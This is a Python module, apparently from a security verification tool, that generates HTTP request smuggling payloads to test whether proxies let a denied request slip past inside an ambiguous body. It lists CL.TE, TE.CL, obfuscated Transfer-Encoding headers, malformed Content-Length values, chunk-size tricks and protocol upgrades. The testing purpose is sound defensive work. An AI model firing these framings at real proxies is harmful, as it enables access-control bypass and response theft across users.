"""Two requests in one: framing that one proxy reads otherwise than the next, so that the second comes in unseen.

Each attempt is an outer request, in its ambiguous body an inner one that is denied, and after both a last one, denied
too. However a proxy reads it, the application may answer once, to the outer request, if that is allowed; and who comes
next must not get another's answer. RFC 9112, 6.3 and 11.2; the kinds go by their common names: CL.TE, TE.CL, TE.TE,
CL.0 (which of two proxies believes which header), and upgrades, after which bytes go through unread.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING

from posture.verify.raw_http import request_bytes

if TYPE_CHECKING:
    from collections.abc import Iterator

    from posture.verify.grounds import Ground
    from posture.verify.raw_http import Header

__all__ = ["FAMILY", "MOST_ANSWERS", "Smuggle", "smuggles"]

FAMILY = "request smuggling"
MOST_ANSWERS = 2
"""The second is to the inner request, or to the last if the inner one was taken for a body."""

_CHUNKED = "Transfer-Encoding", "chunked"
_HTTP2_SETTINGS = "AAMAAABkAAQAAP__"


@dataclass(frozen=True)
class Smuggle:
    """A way to frame two requests; ``words`` names it."""

    words: str
    data: bytes


def smuggles(ground: Ground, host: str) -> list[Smuggle]:
    """All ways, for a ground; the outer request is the permitted one if there is one."""
    outer, denied = ground.permitted or ground.forbidden, ground.forbidden
    inner = request_bytes(denied.method, denied.path, [("Host", host), *denied.headers])
    last = request_bytes(denied.method, denied.path, [("Host", host), *denied.headers, ("Connection", "close")])
    made = []
    for words, headers, body in _framings(inner):
        first = request_bytes(outer.method, outer.path, [("Host", host), *outer.headers, *headers], body=body)
        made.append(Smuggle(words, first + last))
    return made


def _framings(inner: bytes) -> Iterator[tuple[str, tuple[Header, ...], bytes]]:
    ended = b"0\r\n\r\n" + inner
    chunk = b"%x\r\n%b\r\n0\r\n\r\n" % (len(inner), inner)
    length = ("Content-Length", f"{len(ended)}")
    own = f"{len(inner)}"
    yield "one after the other", (), inner
    yield "CL.TE", (length, _CHUNKED), ended
    yield "TE first, then CL", (_CHUNKED, length), ended
    yield "TE.CL", (("Content-Length", f"{chunk.index(inner)}"), _CHUNKED), chunk
    for words, name, value in (
        ("odd case", "tRANSFER-eNCODING", "cHUNKED"),
        ("a space before the colon", "Transfer-Encoding ", "chunked"),
        ("a tab", "Transfer-Encoding", "\tchunked"),
        ("a vertical tab", "Transfer-Encoding", "\x0bchunked"),
        ("a space at the end", "Transfer-Encoding", "chunked "),
        ("a folded line", "Transfer-Encoding", "\r\n chunked"),
        ("an underscore", "Transfer_Encoding", "chunked"),
        ("quotes", "Transfer-Encoding", '"chunked"'),
        ("another coding", "Transfer-Encoding", "xchunked"),
        ("identity", "Transfer-Encoding", "identity"),
        ("identity, chunked", "Transfer-Encoding", "identity, chunked"),
        ("chunked, identity", "Transfer-Encoding", "chunked, identity"),
        ("chunked twice", "Transfer-Encoding", "chunked, chunked"),
        ("a line break within", "X: x\nTransfer-Encoding", "chunked"),
        ("a carriage return within", "X: x\rTransfer-Encoding", "chunked"),
    ):
        yield f"TE with {words}, and CL", (length, (name, value)), ended
        yield f"TE with {words}", ((name, value),), ended
    yield "TE named as a hop", (("Connection", "Transfer-Encoding"), _CHUNKED), ended
    yield "two TE", (_CHUNKED, ("Transfer-Encoding", "identity")), ended
    yield "two CL, 0 first", (("Content-Length", "0"), ("Content-Length", own)), inner
    yield "two CL, 0 last", (("Content-Length", own), ("Content-Length", "0")), inner
    yield "two CL, equal", (("Content-Length", own), ("Content-Length", own)), inner
    for words, value in (
        ("a list", f"0, {own}"),
        ("a sign", f"+{own}"),
        ("minus", "-1"),
        ("hexadecimal", f"0x{len(inner):x}"),
        ("a fraction", f"{own}.0"),
        ("zeros", f"000{own}"),
        ("overflow", f"{2**64 + len(inner)}"),
        ("nothing", ""),
    ):
        yield f"CL with {words}", (("Content-Length", value),), inner
    yield "CL named as a hop", (("Connection", "Content-Length"), ("Content-Length", own)), inner
    yield "CL.0", (("Content-Length", own),), inner
    yield "a chunk's size ended by a bare line feed", (_CHUNKED,), b"0\n\n" + inner
    yield "a chunk's extension with a bare line feed", (_CHUNKED,), b"0;a=\n\r\n" + inner
    yield "a chunk's size too large", (_CHUNKED,), b"10000000000000000\r\n\r\n" + inner
    yield "a chunk's size in odd digits", (_CHUNKED,), b"0_0\r\n\r\n" + inner
    yield "trailers", (_CHUNKED, ("Trailer", "Content-Length")), b"0\r\nContent-Length: 5\r\n\r\n" + inner
    yield "an upgrade to WebSocket", (("Connection", "Upgrade"), ("Upgrade", "websocket")), inner
    settings = ("Connection", "Upgrade, HTTP2-Settings"), ("Upgrade", "h2c"), ("HTTP2-Settings", _HTTP2_SETTINGS)
    yield "an upgrade to HTTP/2", settings, inner
    yield "an expectation", (("Expect", "100-continue"), ("Content-Length", own)), inner
